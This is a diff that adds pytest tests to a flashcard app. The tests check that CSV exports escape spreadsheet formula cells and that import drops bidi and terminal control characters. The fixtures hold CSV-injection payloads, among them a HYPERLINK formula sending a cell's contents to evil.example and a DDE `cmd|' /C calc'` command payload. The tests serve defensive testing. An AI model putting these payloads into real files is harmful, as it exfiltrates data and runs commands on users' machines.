@@ -461,6 +461,90 @@ def test_history_csv_is_what_the_fsrs_optimizer_reads(tmp_path: Path) -> None:
     assert logs[0].review_datetime == datetime(2026, 11, 20, 9, 0, 0, 123000, tzinfo=timezone.utc)
 
 
+# ------------------------------------------------------------------------- CSV cells are never formulas
+
+# Cells a spreadsheet would run as a formula (OWASP's list), also behind leading whitespace.
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+           "\t=1+1", "\r=1+1", " =1+1", "\n@x"]
+
+
+def _formula_cells(rows: list[list[str]], numeric: set[str] = frozenset()) -> list[tuple[str, str]]:
+    """(column, cell) of every cell a spreadsheet would take for a formula."""
+    header, *body = rows
+    return [(name, cell) for row in body for name, cell in zip(header, row)
+            if name not in numeric and cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+def test_every_text_cell_of_the_deck_csv_is_written_as_text(tmp_path: Path) -> None:
+    # `quiz export --format csv` wrote `=HYPERLINK(...)` from a question as it was: a formula in Excel.
+    (tmp_path / "src").mkdir()
+    hostile = [v for v in HOSTILE if "\r" not in v] + ["\t@x"]  # a deck may not hold a CR
+    path = tmp_path / "evil.yaml"
+    path.write_text(
+        "id: evil\ntitle: Evil\nsources: src\ncards:\n"
+        f"  - id: typed\n    question: {json.dumps(hostile[0])}\n    answer: {json.dumps(hostile[1])}\n"
+        f"    accept: {json.dumps(hostile[2:5])}\n"
+        f"    cite: [{{source: {json.dumps('@' + 'x.txt')}, quote: {json.dumps(hostile[5])}}}]\n"
+        f"    tags: {json.dumps(hostile[6:])}\n"
+        f"  - id: pick\n    type: choice\n    question: {json.dumps(hostile[3])}\n    answer: {json.dumps(hostile[0])}\n"
+        f"    choices: {json.dumps(hostile[:2])}\n    cite: [{{source: a.txt, quote: {json.dumps(hostile[6])}}}]\n"
+        f"  - id: gap\n    type: cloze\n    text: {json.dumps('=1+{{2}}')}\n"
+        f"    cite: [{{source: {json.dumps('-a.txt')}, quote: {json.dumps(hostile[2])}}}]\n",
+        encoding="utf-8")
+    deck = load_deck(path)
+    out = tmp_path / "evil.csv"
+    result = run("export", str(path), "--format", "csv", "-o", str(out))
+    assert result.exit_code == 0, result.output
+    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
+    header, *raw = list(interop.deck_rows(deck))
+    hostile_columns = {name for row in raw for name, cell in zip(header, row)
+                       if cell.startswith(("\t", "\r")) or cell.lstrip()[:1] in ("=", "+", "-", "@")}
+    # the deck really puts a hostile value in every text column (ids and type names are the loader's own)
+    assert hostile_columns == set(header) - {"id", "type"}
+    assert _formula_cells(rows) == []
+    assert rows[1][2] == "'" + hostile[0]  # shown as the text it is, the quote hidden by the spreadsheet
+    assert rows[3][2] == "'=1+[...]"
+
+
+def test_every_text_cell_of_the_history_csv_is_written_as_text() -> None:
+    # `quiz history` guarded the answer column only: a profile named =cmd|... became a formula.
+    from types import SimpleNamespace
+
+    from quiz.scheduler import ItemState
+
+    when = datetime(2026, 11, 20, 9, 0, tzinfo=timezone.utc)
+    reviews = [SimpleNamespace(deck=value, card=value, gap=0, reviewed_at=when, rating=3, verdict=value,
+                               answer=value, duration_ms=1000, before=ItemState(), practice=False,
+                               override=False, profile=value) for value in HOSTILE]
+    buffer = io.StringIO()
+    interop.write_history(reviews, None, "csv", stdout=buffer)
+    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
+    numeric = {"review_time", "review_rating", "review_state", "review_duration", "gap", "practice", "override"}
+    assert _formula_cells(rows, numeric) == []
+    text_columns = set(interop.HISTORY_COLUMNS) - numeric - {"reviewed_at"}
+    for row, value in zip(rows[1:], HOSTILE):
+        cells = dict(zip(rows[0], row))
+        assert {cells[c] for c in text_columns - {"card_id"}} == {"'" + value}
+        assert cells["card_id"] == "'" + value + "/" + value
+        assert int(cells["review_time"]) == 1795165200000  # numbers stay numbers
+
+
+def test_a_profile_name_is_not_a_formula_in_the_history_csv(tmp_path: Path) -> None:
+    from quiz.scheduler import ItemState
+    from quiz.store import Review, Store
+
+    db = tmp_path / "h.db"
+    t0 = datetime(2026, 11, 20, 9, 0, tzinfo=timezone.utc)
+    with Store(db, "=cmd|' /C calc'!A0") as store:
+        store.record(Review(deck="demo", card="exit", gap=0, reviewed_at=t0, rating=3, verdict="correct",
+                            answer="@SUM(1)", duration_ms=5, before=ItemState(), after=ItemState(),
+                            interval_days=0.0))
+    result = run("history", "--db", str(db), "--profile", "=cmd|' /C calc'!A0")
+    assert result.exit_code == 0, result.output
+    row = list(csv.DictReader(io.StringIO(result.stdout)))[0]
+    assert (row["profile"], row["answer"]) == ("'=cmd|' /C calc'!A0", "'@SUM(1)")
+
+
 # ---------------------------------------------------------------------------------------------- import
 
 
@@ -586,8 +670,9 @@ def test_import_rejects_missing_binary_and_non_utf8_files(tmp_path: Path) -> Non
     assert not out.exists()
 
 
-# Control characters are covered by test_control_characters_are_dropped_on_import.
-_cell = st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\x85\u2028\u2029"),
+# Control characters (and bidi controls) are covered by test_control_characters_are_dropped_on_import.
+_cell = st.text(st.characters(exclude_categories=["Cs", "Cc"],
+                              exclude_characters="\x85\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"),
                 min_size=1, max_size=20).filter(lambda s: bool(s.split()) and not s.startswith("#"))
 
 
@@ -607,9 +692,10 @@ def test_control_characters_are_dropped_on_import(tmp_path: Path) -> None:
     # The loader refuses terminal control characters in a deck; import drops them instead of writing a deck
     # that cannot load.
     src, out = tmp_path / "ctl.tsv", tmp_path / "ctl.yaml"
-    src.write_text("Borisov\x1b[31m\tthe new\x07 chief\n", encoding="utf-8")
+    src.write_text("Borisov\x1b[31m\tthe new\x07 chief\nRTL\u202eoverride\tan \u2067isolate\u2069\n", encoding="utf-8")
     interop.import_terms(src, out)
-    assert [(c.question, c.answer) for c in load_deck(out).cards] == [("the new chief", "Borisov[31m")]
+    assert [(c.question, c.answer) for c in load_deck(out).cards] == [("the new chief", "Borisov[31m"),
+                                                                      ("an isolate", "RTLoverride")]
 
 
 def test_slug() -> None:
